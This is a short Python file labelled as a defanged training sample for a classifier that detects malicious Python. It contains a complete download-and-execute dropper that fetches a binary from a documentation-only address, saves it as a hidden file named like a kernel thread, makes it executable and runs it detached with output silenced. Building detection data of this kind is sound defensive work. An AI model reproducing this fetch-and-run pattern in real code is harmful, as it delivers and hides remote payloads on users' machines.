# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
import os
import stat
import subprocess
import urllib.request

URL = "http://192.0.2.23/bin/kworker"
DEST = "/tmp/.kworker"

urllib.request.urlretrieve(URL, DEST)
os.chmod(DEST, os.stat(DEST).st_mode | stat.S_IEXEC)
subprocess.Popen([DEST], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
